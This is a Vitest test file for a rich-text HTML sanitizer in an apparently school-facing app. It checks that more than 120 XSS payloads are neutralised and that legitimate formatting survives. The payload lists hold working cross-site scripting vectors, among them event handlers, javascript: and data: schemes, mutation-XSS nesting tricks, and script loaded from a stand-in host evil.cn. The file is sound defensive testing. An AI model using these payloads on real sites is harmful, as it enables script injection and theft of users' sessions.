import { describe, expect, test } from 'vitest'
import { cleanRichText } from './clean.ts'

const clean = (html: string) => cleanRichText(html, { school_id: 7 })
const own = '7/12/20261120/a1.png'

const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'onpointerrawupdate', 'ontoggle', 'onbegin', 'onwheel']
const carriers = ['img src=x', 'p', 'a href="https://a.cn"', 'table', 'svg', 'body', 'details open', 'video', 'marquee', 'span style="color:red"']
const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'blob:https://a/1', 'file:///etc/passwd', '//evil.cn/x', 'feed:javascript:alert(1)']
const wholes = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.cn/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script/xss>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<svg><animate onbegin=alert(1) attributeName=x></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<style>@import "javascript:alert(1)"</style>', '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">', '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>', '<select><option><script>alert(1)</script></option></select>',
  '<textarea><script>alert(1)</script></textarea>', '<template><script>alert(1)</script></template>', '<xmp><script>alert(1)</script></xmp>', '<title><img src=x onerror=alert(1)></title>', '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>', '<p style="color:red;position:fixed;top:0">x</p>', '<p style="-moz-binding:url(//evil.cn/x)">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="font-size:200px">x</p>',
  '<img src="https://evil.cn/track.png">', '<img src="8/12/20261120/a.png">', '<img src="7/../8/a.png">', '<img srcset="https://evil.cn/x 1x">', `<img src="${own}" onerror=alert(1)>`,
  '<!--><script>alert(1)</script>-->', '<!--[if IE]><script>alert(1)</script><![endif]-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<p id="x" class="y" data-x="z">x</p>',
]
const payloads = [
  ...handlers.flatMap(handler => carriers.map(carrier => `<${carrier} ${handler}="alert(1)">x`)).filter((_, at) => at % 2 === 0),
  ...schemes.flatMap(scheme => [`<a href="${scheme}">x</a>`, `<img src="${scheme}">`]),
  ...wholes,
]

/** What must never be in a cleaned text: a tag, an attribute or a scheme outside of the list. */
const forbidden = /<(?!\/?(?:p|br|strong|b|em|i|u|s|h2|h3|ul|ol|li|blockquote|a|img|table|thead|tbody|tr|th|td|span|hr)[\s/>])|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|data|blob|file|expression|url\()\s*:?[^>]*>|<[^>]*\s(?:id|class|srcset|formaction|data-\w+)=/i

describe('60-A14 rich text', () => {
  test.each(payloads)('%s runs nowhere, and cleaning it twice changes nothing', payload => {
    const once = clean(payload)
    expect(once.html).not.toMatch(forbidden)
    expect(clean(once.html).html).toBe(once.html)
  })

  test('there are 120 of them and more', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(120)
  })

  test('what an author writes stays: headings, lists, tables, colours, links with their relation, own pictures', () => {
    const html = `<h2>通知</h2><p style="color:#cf1322;text-align:center">各位<strong>家长</strong></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">时间</td></tr></tbody></table><p><a href="https://edu.cn/x">链接</a></p><img src="${own}" alt="图" />`
    const { html: kept, text, file_keys } = clean(html)
    expect(kept).toBe(html.replace('<a href="https://edu.cn/x">', '<a href="https://edu.cn/x" rel="noopener noreferrer nofollow" target="_blank">'))
    expect(text).toBe('通知 各位家长 一 时间 链接')
    expect(file_keys).toEqual([own])
  })

  test('a picture from elsewhere goes and is counted; the address of an own one is made its key', () => {
    expect(clean('<img src="https://evil.cn/a.png"><img src="data:image/png;base64,AA">')).toMatchObject({ removed_pictures: 2, file_keys: [] })
    expect(clean(`<img src="/material/f/${own}?e=1&s=2">`).html).toBe(`<img src="${own}" alt="" />`)
  })
})
